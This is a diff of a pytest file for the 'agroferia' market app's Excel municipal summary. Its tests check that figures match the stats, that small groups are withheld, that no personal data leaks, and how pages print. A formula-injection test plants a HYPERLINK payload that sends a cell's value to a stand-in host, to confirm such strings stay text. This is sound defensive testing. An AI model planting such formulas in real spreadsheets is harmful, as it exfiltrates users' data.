@@ -1,10 +1,12 @@
-"""The Excel summary workbook: read back with openpyxl, every figure equals ``core.stats``."""
+"""The municipal summary workbook: read back with openpyxl, every figure it shows equals
+``core.stats``; it holds no person's data; no figure rests on fewer than three vendors; it
+prints in a handful of pages."""
 
 from __future__ import annotations
 
 import datetime as dt
 import os
-import shutil
+import re
 import stat
 import zipfile
 from dataclasses import dataclass
@@ -14,65 +16,31 @@ from pathlib import Path
 import openpyxl
 import pytest
 from openpyxl.worksheet._writer import ALL_TEMP_FILES
+from pypdf import PdfReader
+from sqlalchemy import distinct, func, select
 
 from agroferia import i18n
-from agroferia.core import breakdowns, demo, fairs, fees, sales, stats, vendors
+from agroferia.core import fairs, fees, sales, settings, stats, vendors
 from agroferia.core.audit import SYSTEM
-from agroferia.core.db import open_database
 from agroferia.core.errors import NotFoundError, OperationError
+from agroferia.core.models import Category, Fair, FairDay, Sale, Vendor
 from agroferia.reports import excel
+from tests.reports.workbooks import (
+    UTF8_CSV,
+    WITHHELD,
+    all_text,
+    by_first,
+    dec,
+    needs_soffice,
+    soffice,
+    table,
+    xml_parts,
+)
 
 YEAR = (dt.date(2026, 1, 1), dt.date(2026, 12, 31))
 NOW = dt.datetime(2026, 11, 23, 18, 30, tzinfo=dt.UTC)
 MONEY = '"S/" #,##0.00'
-SHEETS = [
-    "Resumen",
-    "Por jornada",
-    "Por rubro",
-    "Participación",
-    "Expositores",
-    "Cuotas",
-    "Regiones",
-    "Ventas (detalle)",
-]
-
-
-# ------------------------------------------------------------------ helpers
-
-
-def dec(value: object) -> Decimal:
-    """A number read back from the file (openpyxl gives int or float) as an exact Decimal."""
-    assert isinstance(value, int | float) and not isinstance(value, bool), value
-    return Decimal(str(value))
-
-
-def find_row(ws, first: object, nth: int = 1) -> int:
-    """The row whose first cell is ``first`` (the ``nth`` such row)."""
-    seen = 0
-    for (cell,) in ws.iter_rows(min_col=1, max_col=1):
-        if cell.value == first:
-            seen += 1
-            if seen == nth:
-                return cell.row
-    raise AssertionError(f"{first!r} not found in column A of {ws.title}")
-
-
-def table(ws, first_header: str, nth: int = 1) -> tuple[list, list[list]]:
-    """Headers and rows of the table whose header row starts with ``first_header``, down to
-    the first row with an empty first cell (so total rows are included)."""
-    top = find_row(ws, first_header, nth)
-    width = sum(1 for c in ws[top] if c.value is not None)
-    headers = [c.value for c in ws[top]][:width]
-    rows = []
-    for row in ws.iter_rows(min_row=top + 1, max_col=width):
-        if row[0].value is None:
-            break
-        rows.append(list(row))
-    return headers, rows
-
-
-def by_first(rows: list[list]) -> dict:
-    return {r[0].value: r for r in rows}
+SHEETS = ["Resumen", "Por jornada", "Por rubro", "Participación", "Regiones"]
 
 
 def charts_in(path: Path) -> list[str]:
@@ -101,31 +69,17 @@ class Book:
     path: Path
 
 
-@pytest.fixture(scope="module")
-def demo_db(template_db, tmp_path_factory):
-    """The demo fair (84 vendors, 52 Sundays up to 22/11/2026), built once for the module:
-    the exports only read it."""
-    path = tmp_path_factory.mktemp("demo") / "agroferia.db"
-    shutil.copyfile(template_db, path)
-    database = open_database(path)
-    with database.Session() as s:
-        demo.build(s, seed=2026, until=dt.date(2026, 11, 22))
-        s.commit()
-    yield database
-    database.close()
-
-
 @pytest.fixture
-def demo_session(demo_db):
-    with demo_db.Session() as s:
+def demo_session(demo_year):
+    with demo_year.Session() as s:
         yield s
 
 
 @pytest.fixture(scope="module")
-def book(demo_db, tmp_path_factory) -> Book:
+def book(demo_year, tmp_path_factory) -> Book:
     """The 2026 workbook of the demo fair, written and read back once for the module."""
     path = tmp_path_factory.mktemp("book") / "resumen.xlsx"
-    with demo_db.Session() as s:
+    with demo_year.Session() as s:
         result = excel.write_workbook(s, *YEAR, path, lang="es", now=NOW)
         figures = stats.compute(s, *YEAR)
     return Book(result, openpyxl.load_workbook(path), figures, path)
@@ -183,12 +137,11 @@ def hand_data(session) -> dict[str, int]:
 # ------------------------------------------------------------------ the whole workbook
 
 
-def test_result_names_the_sheets_and_counts_the_sales_rows(demo_session, book):
+def test_result_names_the_sheets(book):
     result, wb = book.result, book.wb
     assert result.path == book.path
     assert result.sheets == SHEETS
     assert wb.sheetnames == SHEETS
-    assert result.sales_rows == breakdowns.count_sales(demo_session, *YEAR) > 6000
     # no temporary file left beside it
     assert [p.name for p in book.path.parent.iterdir()] == ["resumen.xlsx"]
 
@@ -226,20 +179,24 @@ def test_summary_kpis_equal_stats(book):
     assert k["Expositores presentes"].number_format == "#,##0"
 
 
-def test_summary_title_rows(book):
+def test_summary_title_rows_say_what_the_document_is(book):
     wb = book.wb
     ws = wb["Resumen"]
-    titles = [ws.cell(row, 1).value for row in range(1, 6)]
+    titles = [ws.cell(row, 1).value for row in range(1, 7)]
     assert titles == [
         "Asociación de Productores de la Agroferia Campesina de Magdalena",
         "Todas las ferias",
         "Municipalidad Distrital de Magdalena del Mar",
         "Periodo: del 01/01/2026 al 31/12/2026",
         "Generado el 23/11/2026 18:30",
+        "Resumen para la municipalidad: solo cifras agregadas, sin datos personales de "
+        "ningún expositor (Ley 29733).",
     ]
     assert ws["A1"].font.bold and ws["A1"].font.size == 14
     flat = [c.value for row in ws.iter_rows() for c in row]
     assert "No hubo actividad en este periodo." not in flat
+    for sheet in wb.worksheets:  # and every printed page says it
+        assert sheet.oddHeader.center.text == "Resumen municipal · sin datos personales"
 
 
 def test_money_and_percentages_are_numbers_exact_to_the_cent(book):
@@ -261,7 +218,7 @@ def test_money_and_percentages_are_numbers_exact_to_the_cent(book):
                 else:
                     percent += 1
                     assert exponent >= -3, (ws.title, cell.coordinate, cell.value)
-    assert money > 6000
+    assert money > 150
     assert percent > 40
 
 
@@ -269,7 +226,8 @@ def test_by_day_sheet_equals_stats(book):
     wb, s = book.wb, book.stats
     j = s.to_json()
     headers, rows = table(wb["Por jornada"], "Fecha")
-    assert headers[:3] == ["Fecha", "Feria", "Expositores presentes"]
+    # one fair: no column repeating its name on every row
+    assert headers[:3] == ["Fecha", "Expositores presentes", "Mujeres"]
     *days, total = rows
     assert len(days) == j["fair_days"]
     sales_col, due_col, paid_col, later_col = (
@@ -295,17 +253,43 @@ def test_by_day_sheet_equals_stats(book):
     assert total[sales_col].font.bold
 
 
-def test_by_category_sheet_equals_stats(book):
+def sellers_by_category(session, start: dt.date, end: dt.date) -> dict[str, int]:
+    """How many vendors sold in each rubro, counted here with SQL of its own."""
+    return dict(
+        session.execute(
+            select(Category.name, func.count(distinct(Sale.vendor_id)))
+            .join(Sale, Sale.category_id == Category.id)
+            .join(FairDay, FairDay.id == Sale.fair_day_id)
+            .where(FairDay.date.between(start, end))
+            .group_by(Category.name)
+        ).all()
+    )
+
+
+def test_by_category_sheet_equals_stats_with_small_rubros_added_up(demo_session, book):
     wb, s = book.wb, book.stats
     j = s.to_json()
-    _headers, rows = table(wb["Por rubro"], "Rubro")
+    ws = wb["Por rubro"]
+    _headers, rows = table(ws, "Rubro")
     table_rows = by_first(rows)
     total = table_rows.pop("Total")
+    others = table_rows.pop("Otros 2 rubros")
+    sellers = sellers_by_category(demo_session, *YEAR)
+    present = s.vendors.by_category
+    # every rubro shown rests on three vendors or more, present and selling
+    assert all(present.get(n, 0) >= 3 and sellers.get(n, 0) >= 3 for n in table_rows)
+    folded = [n for n in set(present) | set(sellers) if n not in table_rows]
+    assert len(folded) == 2
+    assert any(present.get(n, 0) < 3 or sellers.get(n, 0) < 3 for n in folded)
     assert {name: dec(r[3].value) for name, r in table_rows.items()} == {
-        name: Decimal(c) for name, c in j["sales"]["by_category"].items()
+        name: Decimal(c) for name, c in j["sales"]["by_category"].items() if name not in folded
     }
-    assert {name: r[1].value for name, r in table_rows.items()} == j["vendors"]["by_category"]
-    assert list(table_rows) == list(j["sales"]["by_category"])  # largest first, as stats ranks
+    assert {name: r[1].value for name, r in table_rows.items()} == {
+        n: c for n, c in j["vendors"]["by_category"].items() if n not in folded
+    }
+    assert list(table_rows) == [n for n in j["sales"]["by_category"] if n not in folded]
+    assert others[1].value == sum(present.get(n, 0) for n in folded) >= 3
+    assert dec(others[3].value) == sum(Decimal(j["sales"]["by_category"][n]) for n in folded)
     for name, r in table_rows.items():
         assert dec(r[2].value) == s.share(s.vendors.by_category[name]) / 100
         assert r[4].number_format == "0.0%"
@@ -313,39 +297,40 @@ def test_by_category_sheet_equals_stats(book):
     assert dec(total[3].value) == Decimal(j["sales"]["total"])
     assert total[1].value == j["vendors"]["present"]
     assert dec(total[4].value) == 1
+    notes = [str(c.value) for (c,) in ws.iter_rows(min_col=1, max_col=1) if c.value]
+    assert any(n.startswith("«Otros 2 rubros»") and all(f in n for f in folded) for n in notes)
 
 
-def test_participation_sheet_equals_stats(book):
+def test_participation_sheet_equals_stats_and_withholds_the_small_cells(book):
     wb, s = book.wb, book.stats
     j = s.to_json()
     ws = wb["Participación"]
     headers, rows = table(ws, "Sexo", 1)
     assert headers[1:4] == ["Jóvenes (15–29 años)", "No jóvenes", "Edad no indicada"]
     present = by_first(rows)
-    for code, label in (("F", "Mujeres"), ("M", "Hombres"), ("other", "Otro")):
-        groups = j["vendors"]["by_sex_youth"][code]
+    # two women and two men without a birth date: withheld, and so is the cell of each row
+    # that would give them back (their row total and column total are published)
+    groups = j["vendors"]["by_sex_youth"]
+    assert groups["F"]["not_stated"] == groups["M"]["not_stated"] == 2
+    for code, label in (("F", "Mujeres"), ("M", "Hombres")):
         row = present[label]
-        assert [row[i].value for i in (1, 2, 3)] == [
-            groups["youth"],
-            groups["non_youth"],
-            groups["not_stated"],
-        ]
+        assert row[1].value == groups[code]["youth"]
+        assert [row[2].value, row[3].value] == [WITHHELD, WITHHELD]
         assert row[4].value == j["vendors"]["by_sex"][code]
+    assert [present["Otro"][i].value for i in (1, 2, 3, 4)] == [0, 0, 0, 0]
     assert present["Total"][1].value == j["vendors"]["youth"]
     assert present["Total"][3].value == j["vendors"]["age_not_stated"]
     assert present["Total"][4].value == j["vendors"]["present"]
     assert dec(present["% de presentes"][1].value) == s.share(s.vendors.youth) / 100
+    assert present["Mujeres"][2].alignment.horizontal == "right"  # under its header
 
     _headers, rows = table(ws, "Sexo", 2)
     amounts = by_first(rows)
     for code, label in (("F", "Mujeres"), ("M", "Hombres")):
         groups = j["sales"]["by_sex_youth"][code]
         row = amounts[label]
-        assert [dec(row[i].value) for i in (1, 2, 3)] == [
-            Decimal(groups["youth"]),
-            Decimal(groups["non_youth"]),
-            Decimal(groups["not_stated"]),
-        ]
+        assert dec(row[1].value) == Decimal(groups["youth"])
+        assert [row[2].value, row[3].value] == [WITHHELD, WITHHELD]
         assert row[1].number_format == MONEY
         assert dec(row[4].value) == Decimal(j["sales"]["by_sex"][code])
     total = amounts["Total"]
@@ -367,84 +352,46 @@ def test_participation_sheet_equals_stats(book):
     assert dec(methods["Total"][1].value) == Decimal(j["sales"]["total"])
 
 
-def test_roster_lists_the_registered_vendors(demo_session, book):
-    wb, s = book.wb, book.stats
-    headers, rows = table(wb["Expositores"], "Código")
-    *people, total = rows
-    assert len(people) == s.vendors.registered == 84
-    expected = breakdowns.by_vendor(demo_session, *YEAR)
-    assert [r[0].value for r in people] == [v.code for v in expected]
-    col = {h: i for i, h in enumerate(headers)}
-    first, row = expected[0], people[0]
-    assert row[col["Número de documento"]].value == first.doc_number
-    assert row[col["Apellidos"]].value == first.surnames
-    assert row[col["Estado"]].value == "Activo"
-    assert row[col["Sexo"]].value in {"Mujer", "Hombre"}
-    born = row[col["Fecha de nacimiento"]]
-    assert born.value.date() == first.birth_date
-    assert born.number_format == "dd/mm/yyyy"
-    assert row[col["Edad al 31/12/2026"]].value == first.age
-    assert {r[col["Joven"]].value for r in people} == {"Sí", "No", None}
-    assert sum(r[col["Jornadas asistidas"]].value for r in people) == s.vendors.attendances
-    assert total[col["Jornadas asistidas"]].value == s.vendors.attendances
-    sold = sum(dec(r[col["Ventas en el periodo"]].value) for r in people)
-    assert (
-        sold
-        == dec(total[col["Ventas en el periodo"]].value)
-        == Decimal(s.to_json()["sales"]["total"])
-    )
+def lines_of(rows: list[list], width: int) -> list[list]:
+    """The rows and the columns of a table by sex × age group (the parts, then the total)."""
+    body = [r[1 : width + 1] for r in rows]
+    columns = [[body[i][c] for i in range(len(body))] for c in range(width)]
+    return [r for r in body] + columns
 
 
-def test_fees_sheet_totals_equal_stats(book):
-    wb, s = book.wb, book.stats
-    j = s.to_json()
-    headers, rows = table(wb["Cuotas"], "Código")
-    assert headers == ["Código", "Expositor", "Debido", "Pagado", "Pagado después", "Pendiente"]
-    *owing, total = rows
-    assert owing and all(r[2].value for r in owing)
-    assert sum(dec(r[2].value) for r in owing) == Decimal(j["fees"]["due"])
-    assert sum(dec(r[5].value) for r in owing) == Decimal(j["fees"]["outstanding"])
-    assert [dec(total[i].value) for i in (2, 3, 4, 5)] == [
-        Decimal(j["fees"]["due"]),
-        Decimal(j["fees"]["paid"]),
-        Decimal(j["fees"]["paid_later"]),
-        Decimal(j["fees"]["outstanding"]),
-    ]
-    assert total[5].number_format == MONEY
+def test_no_withheld_figure_can_be_worked_out_from_its_totals(book):
+    """In every row and column whose total is published, a withheld part never stands
+    alone (it would be the total less the others)."""
+    ws = book.wb["Participación"]
+    for nth in (1, 2):
+        _headers, rows = table(ws, "Sexo", nth)
+        grid = [
+            r for r in rows if r[0].value != "% de presentes" and r[0].value != "% de las ventas"
+        ]
+        for line in lines_of(grid, 4):
+            *parts, total = line
+            if total.value == WITHHELD:
+                continue
+            withheld = [c for c in parts if c.value == WITHHELD]
+            assert len(withheld) != 1, [c.coordinate for c in line]
 
 
-def test_regions_sheet_equals_stats(book):
+def test_regions_sheet_equals_stats_with_small_regions_added_up(book):
     wb, s = book.wb, book.stats
     _headers, rows = table(wb["Regiones"], "Región")
     regions = by_first(rows)
     total = regions.pop("Total")
-    assert {k: r[1].value for k, r in regions.items()} == s.regions
+    (others,) = [k for k in regions if str(k).startswith("Otras")]
+    other = regions.pop(others)
+    small = {k: n for k, n in s.regions.items() if n < 3}
+    assert small and others == f"Otras {len(small)} regiones"
+    assert {k: r[1].value for k, r in regions.items()} == {
+        k: n for k, n in s.regions.items() if k not in small
+    }
+    assert other[1].value == sum(small.values())
+    assert all(r[1].value >= 3 for r in regions.values())
     assert dec(regions["Lima"][2].value) == s.share(s.regions["Lima"]) / 100
     assert total[1].value == s.vendors.present
-
-
-def test_sales_listing_has_every_entry(demo_session, book):
-    result, wb, s = book.result, book.wb, book.stats
-    ws = wb["Ventas (detalle)"]
-    headers, rows = table(ws, "Fecha")
-    assert headers == [
-        "Fecha",
-        "Feria",
-        "Código",
-        "Expositor",
-        "Sexo",
-        "Rubro",
-        "Medio de pago",
-        "Monto",
-    ]
-    assert len(rows) == result.sales_rows == breakdowns.count_sales(demo_session, *YEAR)
-    assert sum(dec(r[7].value) for r in rows) == Decimal(s.to_json()["sales"]["total"])
-    first = next(breakdowns.iter_sales(demo_session, *YEAR))
-    assert rows[0][0].value == dt.datetime.combine(first.date, dt.time())
-    assert rows[0][0].number_format == "dd/mm/yyyy"
-    assert rows[0][7].number_format == MONEY
-    assert [rows[0][i].value for i in (2, 3)] == [first.vendor_code, first.vendor_name]
-    assert rows[-1][0].value >= rows[0][0].value
 
 
 def test_every_sheet_has_frozen_headers_a_filter_and_widths(book):
@@ -457,27 +404,186 @@ def test_every_sheet_has_frozen_headers_a_filter_and_widths(book):
         assert ws.cell(header, 1).font.bold, ws.title
         widths = {k: d.width for k, d in ws.column_dimensions.items() if d.width}
         assert widths and max(widths.values()) <= 50, ws.title
-    assert wb["Expositores"].freeze_panes == "D5"  # code and names stay in view
-    assert wb["Por jornada"].auto_filter.ref == "A4:K51"  # 47 days, total row outside
-    code_width = wb["Expositores"].column_dimensions["A"].width
-    assert len("EXP-0001") < code_width < 20
+    assert wb["Por jornada"].auto_filter.ref == "A4:J51"  # 47 days, total row outside
+
+
+def test_every_sheet_prints_one_page_wide_with_its_headers_on_every_page(book):
+    """Read back as Excel and LibreOffice read it: A4, scaled to the page's width, as many
+    pages tall as needed, the header row repeated, numbers under right-aligned headers."""
+    wb = book.wb
+    orientation = {}
+    for ws in wb.worksheets:
+        setup = ws.page_setup
+        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
+        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), ws.title
+        assert int(setup.paperSize) == int(ws.PAPERSIZE_A4)
+        orientation[ws.title] = setup.orientation
+        header = int(ws.auto_filter.ref.split(":")[0][1:])
+        assert ws.print_title_rows.replace("$", "") == f"{header}:{header}", ws.title
+        for cell in ws[header]:
+            below = ws.cell(header + 1, cell.column)
+            if below.value is not None and below.data_type == "n" and not below.is_date:
+                assert cell.alignment.horizontal == "right", (ws.title, cell.coordinate)
+                assert below.alignment.horizontal == "right", (ws.title, below.coordinate)
+        footer = ws.oddFooter.right.text
+        assert "&A" in footer and "Página &P de &N" in footer
+    # the wide ones lie down, the narrow ones stand up
+    assert orientation == {
+        "Resumen": "landscape",
+        "Por jornada": "landscape",
+        "Por rubro": "portrait",
+        "Participación": "portrait",
+        "Regiones": "portrait",
+    }
+
+
+@needs_soffice
+def test_a_year_prints_in_a_handful_of_pages(book, tmp_path):
+    """LibreOffice prints the year in a few pages (the organization's old workbook took
+    168), every one headed as the municipal summary and numbered."""
+    pdf = soffice(book.path, "pdf", tmp_path)
+    pages = PdfReader(pdf).pages
+    assert 5 <= len(pages) <= 12
+    for n, page in enumerate(pages, 1):
+        text = page.extract_text()
+        assert "Resumen municipal" in text
+        assert f"Página {n} de {len(pages)}" in text
+    last = pages[-1].extract_text()
+    assert "Lima" in last and "Otras" in last  # the regions, on the last page
 
 
 def test_native_charts_of_sales(book):
     path = book.path
     assert charts_in(path) == ["xl/charts/chart1.xml", "xl/charts/chart2.xml"]
     by_day, by_category = (read_xml(path, f"xl/charts/chart{n}.xml") for n in (1, 2))
-    assert "barChart" in by_day and "'Por jornada'!$G$5:$G$51" in by_day
-    assert "'Por rubro'!$D$5:$D$12" in by_category
+    assert "barChart" in by_day and "'Por jornada'!$F$5:$F$51" in by_day
+    assert "'Por rubro'!$D$5:$D$11" in by_category
 
 
 def test_document_properties(book):
     wb = book.wb
     props = wb.properties
     assert props.creator == "Asociación de Productores de la Agroferia Campesina de Magdalena"
-    assert props.title == "Todas las ferias: reporte del 01/01/2026 al 31/12/2026"
+    assert props.title == "Todas las ferias: resumen municipal del 01/01/2026 al 31/12/2026"
     assert props.created == NOW.replace(tzinfo=None)
     assert props.language == "es"
+
+
+# ------------------------------------------------------------------ no personal data
+
+
+def personal_data(session, *, complete: bool = True) -> dict[str, set[str]]:
+    """What the database holds about each person that a municipal document must never
+    carry, as text, by kind."""
+    found: dict[str, set[str]] = {k: set() for k in (
+        "document", "phone", "email", "birth date", "name", "code", "stall", "association",
+        "note")}  # fmt: skip
+    for v in session.scalars(select(Vendor)):
+        found["document"].add(v.doc_number)
+        found["name"] |= {f"{v.given_names} {v.surnames}", f"{v.surnames}, {v.given_names}"}
+        found["code"].add(v.code)
+        for kind, value in (("phone", v.phone), ("email", v.email), ("stall", v.stall),
+                            ("association", v.association), ("note", v.notes)):  # fmt: skip
+            if value:
+                found[kind].add(value)
+        if v.birth_date:
+            found["birth date"] |= {v.birth_date.strftime("%d/%m/%Y"), v.birth_date.isoformat()}
+    if complete:  # the search can find something of every kind
+        assert all(found.values()), {k for k, v in found.items() if not v}
+    return found
+
+
+def test_no_cell_comment_name_or_property_holds_a_persons_data(demo_session, book):
+    wb = book.wb
+    held = personal_data(demo_session)
+    texts = all_text(wb)
+    for kind, values in held.items():
+        leaks = {v for v in values for t in texts if v in t}
+        assert not leaks, (kind, sorted(leaks)[:3])
+    births = {v.birth_date for v in demo_session.scalars(select(Vendor)) if v.birth_date}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert getattr(cell, "comment", None) is None
+                if getattr(cell, "is_date", False) and cell.value is not None:
+                    assert cell.value.date() not in births, (ws.title, cell.coordinate)
+    assert not wb.defined_names or all(
+        "Print_Titles" in name or "_FilterDatabase" in name for name in wb.defined_names
+    )
+
+
+def test_no_xml_part_holds_a_persons_data(demo_session, book):
+    """The file itself, unzipped: sheets, strings, styles, charts, properties."""
+    held = personal_data(demo_session)
+    parts = xml_parts(book.path)
+    assert "xl/worksheets/sheet1.xml" in parts and "docProps/core.xml" in parts
+    for name, xml in parts.items():
+        text = xml.replace("&amp;", "&")
+        for kind, values in held.items():
+            leaks = {v for v in values if v in text}
+            assert not leaks, (name, kind, sorted(leaks)[:3])
+
+
+def test_the_organizations_padron_holds_what_the_summary_must_not(demo_session, tmp_path):
+    """The scan above would find the data: the same search in the padrón finds it all."""
+    from agroferia.reports.workbook.padron import write_roster
+
+    path = tmp_path / "padron.xlsx"
+    write_roster(demo_session, "prueba", path, now=NOW.replace(tzinfo=None))
+    texts = "\n".join(all_text(openpyxl.load_workbook(path)))
+    for kind, values in personal_data(demo_session).items():
+        if kind in ("birth date", "name"):
+            continue  # dates are date cells; names are in two columns
+        assert all(v in texts for v in values), kind
+
+
+# ------------------------------------------------------------------ no formula from data
+
+
+INJECTED = '=HYPERLINK("http://x/?d="&E9,"ver")'
+
+
+def test_text_from_the_data_is_written_as_text(session, hand_data, tmp_path):
+    """A fair named like a formula, a rubro «=1+1», an organization «@SUM(1)»: strings in
+    the file, never formulas, and they look as typed."""
+    session.get(Fair, hand_data["norte"]).name = INJECTED
+    session.scalar(select(Category).where(Category.name == "Gastronomía")).name = "=1+1"
+    settings.put(session, "organization_name", "@SUM(1)")
+    session.commit()
+    path = tmp_path / "inyeccion.xlsx"
+    excel.write_workbook(session, dt.date(2026, 3, 1), dt.date(2026, 3, 31), path,
+                         fair_id=hand_data["norte"], now=NOW)  # fmt: skip
+    wb = openpyxl.load_workbook(path)
+    found = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.value in (INJECTED, "=1+1", "@SUM(1)"):
+                    found.setdefault(cell.value, []).append(cell)
+                    assert cell.data_type == "s", (ws.title, cell.coordinate)
+                    assert cell.quotePrefix, (ws.title, cell.coordinate)
+    assert set(found) == {INJECTED, "@SUM(1)"}  # the rubro «=1+1» is folded into «Otros»
+    for name, xml in xml_parts(path).items():
+        if name.startswith("xl/worksheets/"):
+            assert "<f>" not in xml and "<f " not in xml, name
+
+
+@needs_soffice
+def test_libreoffice_does_not_evaluate_them(session, hand_data, tmp_path):
+    session.get(Fair, hand_data["norte"]).name = INJECTED
+    settings.put(session, "organization_name", "=1+1")
+    session.commit()
+    path = tmp_path / "inyeccion.xlsx"
+    excel.write_workbook(session, dt.date(2026, 3, 1), dt.date(2026, 3, 31), path,
+                         fair_id=hand_data["norte"], now=NOW)  # fmt: skip
+    text = soffice(path, UTF8_CSV, tmp_path).read_text(encoding="utf-8")  # the first sheet
+    assert INJECTED.replace('"', '""') in text  # as written (CSV doubles the quotes)
+    assert "=1+1" in text.splitlines()[0]
+    # the check can fail: LibreOffice does compute a formula the file really holds
+    control = openpyxl.Workbook()
+    control.active["A1"] = "=1+1"
+    control.save(tmp_path / "control.xlsx")
+    assert soffice(tmp_path / "control.xlsx", UTF8_CSV, tmp_path).read_text().strip() == "2"
 
 
 # ------------------------------------------------------------------ language, empty periods
@@ -492,33 +598,25 @@ def test_english_workbook(demo_session, tmp_path):
     assert wb.sheetnames == [i18n.translate(t, "en") for t in SHEETS]
     by_day = wb.worksheets[1]
     headers = [c.value for c in by_day[4]]
-    assert headers[:2] == ["Date", "Fair"]
-    assert headers[3:6] == ["Women", "Young people", "Visitors"]
-    detail = wb.worksheets[-1]
-    headers = [c.value for c in detail[4]]
-    assert [headers[i] for i in (0, 1, 4, 6, 7)] == [
-        "Date",
-        "Fair",
-        "Sex",
-        "Payment method",
-        "Amount",
-    ]
-    column = {c.value for (c,) in detail.iter_rows(min_row=5, min_col=5, max_col=5)}
-    assert column == {"Woman", "Man"}
-    methods = {c.value for (c,) in detail.iter_rows(min_row=5, min_col=7, max_col=7)}
-    assert "Cash" in methods and "Efectivo" not in methods
+    assert headers[:1] == ["Date"]
+    assert headers[2:5] == ["Women", "Young people", "Visitors"]
     participation = wb.worksheets[3]
     first_column = {c.value for (c,) in participation.iter_rows(min_col=1, max_col=1)}
     assert {"Women", "Men", "Cash"} <= first_column
     assert wb.properties.language == "en"
     # and every text the workbook writes is what the English catalogue says
     assert by_day["A1"].value == i18n.translate("Ventas y asistencia por jornada", "en")
+    assert wb.worksheets[0].oddHeader.center.text == i18n.translate(
+        "Resumen municipal · sin datos personales", "en"
+    )
+    notes = [c.value for (c,) in wb.worksheets[2].iter_rows(min_col=1, max_col=1) if c.value]
+    assert "2 other categories" in notes
 
 
 def test_empty_period_gives_a_valid_workbook(demo_session, tmp_path):
     path = tmp_path / "vacio.xlsx"
     calls = []
-    result = excel.write_workbook(
+    excel.write_workbook(
         demo_session,
         dt.date(2020, 1, 1),
         dt.date(2020, 12, 31),
@@ -526,8 +624,7 @@ def test_empty_period_gives_a_valid_workbook(demo_session, tmp_path):
         now=NOW,
         progress=lambda done, total: calls.append((done, total)),
     )
-    assert result.sales_rows == 0
-    assert calls[-1] == (0, 0)
+    assert calls[-1] == (5, 5)
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == SHEETS
     summary = [c.value for row in wb["Resumen"].iter_rows() for c in row]
@@ -539,9 +636,6 @@ def test_empty_period_gives_a_valid_workbook(demo_session, tmp_path):
     assert k["Visitantes (estimado)"].offset(column=1).value == "Sin estimación"
     _headers, rows = table(wb["Por jornada"], "Fecha")
     assert [r[0].value for r in rows] == ["Total"]
-    _headers, rows = table(wb["Ventas (detalle)"], "Fecha")
-    assert rows == []
-    assert wb["Ventas (detalle)"].auto_filter.ref == "A4:H4"
     assert charts_in(path) == []  # no chart of nothing
 
 
@@ -557,123 +651,112 @@ def test_empty_database_names_agroferia(session, tmp_path):
 # ------------------------------------------------------------------ one fair, hand-made data
 
 
-def test_one_fair_with_hand_made_data(session, hand_data, tmp_path):
+def test_a_small_fair_shows_what_rests_on_three_vendors_or_more(session, hand_data, tmp_path):
+    """Norte in March: two vendors present. Every figure that one or two vendors stand
+    behind is «—»; what remains is what stats says."""
     path = tmp_path / "norte.xlsx"
     march = (dt.date(2026, 3, 1), dt.date(2026, 3, 31))
-    result = excel.write_workbook(session, *march, path, fair_id=hand_data["norte"], now=NOW)
+    excel.write_workbook(session, *march, path, fair_id=hand_data["norte"], now=NOW)
     s = stats.compute(session, *march, hand_data["norte"])
     j = s.to_json()
     assert j["sales"]["total"] == "1334.71"  # 100.10 + 0.05 + 1,234.56; not Sur's 99.99
-    assert result.sales_rows == 3
     wb = openpyxl.load_workbook(path)
 
     ws = wb["Resumen"]
     assert ws["A2"].value == "Feria Norte"
     assert ws["A3"].value == "Municipalidad de Prueba"
     k = kpis(ws)
-    assert dec(k["Ventas totales"].value) == Decimal("1334.71")
+    # counts of everyone, no breakdown: published
+    assert k["Jornadas realizadas"].value == 2
     assert k["Visitantes (estimado)"].value == 300
     assert k["Visitantes (estimado)"].offset(column=1).value == "(estimado en 1 de 2 jornadas)"
     assert k["Expositores inscritos"].value == j["vendors"]["registered"] == 3
     assert k["Expositores presentes"].value == 2
-    assert dec(k["Porcentaje de mujeres"].value) == Decimal("0.5")
-    assert k["Presentes sin fecha de nacimiento"].value == 1
-    assert dec(k["Cuotas cobradas"].value) == Decimal("3.00")
-    assert dec(k["Cuotas pagadas después del cierre"].value) == Decimal("2.00")
-    assert dec(k["Cuotas pendientes"].value) == Decimal("5.50")
+    # one woman, one young person, one without a birth date, the sales of two people, and
+    # the one suspended vendor (registered less active): withheld
+    for label in ("Mujeres presentes", "Porcentaje de mujeres", "Jóvenes presentes (15–29 años)",
+                  "Mujeres jóvenes presentes", "Presentes sin fecha de nacimiento",
+                  "Ventas totales", "Promedio de ventas por expositor y jornada",
+                  "Ventas de mujeres", "Ventas de jóvenes", "Cuotas debidas",
+                  "Cuotas cobradas", "Cuotas pagadas después del cierre", "Cuotas pendientes",
+                  "Expositores activos"):  # fmt: skip
+        assert k[label].value == WITHHELD, label
+        assert k[label].alignment.horizontal == "right"
 
-    _headers, rows = table(wb["Por jornada"], "Fecha")
+    headers, rows = table(wb["Por jornada"], "Fecha")
     days = {r[0].value.date(): r for r in rows if r[0].value != "Total"}
-    assert days[dt.date(2026, 3, 1)][10].value == "Sí"  # closed
-    assert days[dt.date(2026, 3, 8)][10].value == "No"
-    assert [dec(days[dt.date(2026, 3, 1)][i].value) for i in (7, 8, 9)] == [
-        Decimal("10.50"),
-        Decimal("3.00"),
-        Decimal("2.00"),  # the payment of 01/03 received on 08/03 counts for 01/03
-    ]
-    assert days[dt.date(2026, 3, 8)][5].value is None  # no visitor estimate: blank, not 0
-    assert dec(days[dt.date(2026, 3, 1)][6].value) == Decimal("1334.66")
+    col = {h: i for i, h in enumerate(headers)}
+    assert days[dt.date(2026, 3, 1)][col["Cerrada"]].value == "Sí"
+    assert days[dt.date(2026, 3, 8)][col["Cerrada"]].value == "No"
+    assert days[dt.date(2026, 3, 8)][col["Visitantes"]].value is None  # no estimate: blank
+    assert days[dt.date(2026, 3, 1)][col["Visitantes"]].value == 300
+    for day in days.values():
+        for name in ("Expositores presentes", "Ventas", "Cuotas debidas"):
+            assert day[col[name]].value in (WITHHELD, 0), name
+    assert rows[-1][col["Expositores presentes"]].value == j["vendors"]["attendances"] == 3
 
     _headers, rows = table(wb["Regiones"], "Región")
-    assert {r[0].value: r[1].value for r in rows} == {
-        "Cusco": 1,
-        "Región no indicada": 1,
-        "Total": 2,
-    }
-
-    headers, rows = table(wb["Expositores"], "Código")
-    col = {h: i for i, h in enumerate(headers)}
